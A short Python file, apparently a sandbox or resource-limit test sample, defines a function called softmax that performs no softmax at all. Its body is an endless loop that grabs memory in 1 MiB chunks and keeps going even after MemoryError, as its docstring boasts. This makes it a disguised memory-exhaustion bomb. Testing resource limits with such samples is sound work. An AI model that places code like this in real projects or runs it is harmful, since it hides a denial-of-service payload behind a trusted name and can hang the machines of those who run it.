"""Wants to fight for the last byte for ever."""


def softmax(z):
    held = []
    while True:
        try:
            held.append(bytearray(b"x") * 2**20)
        except MemoryError:
            held.append(held[-1:])
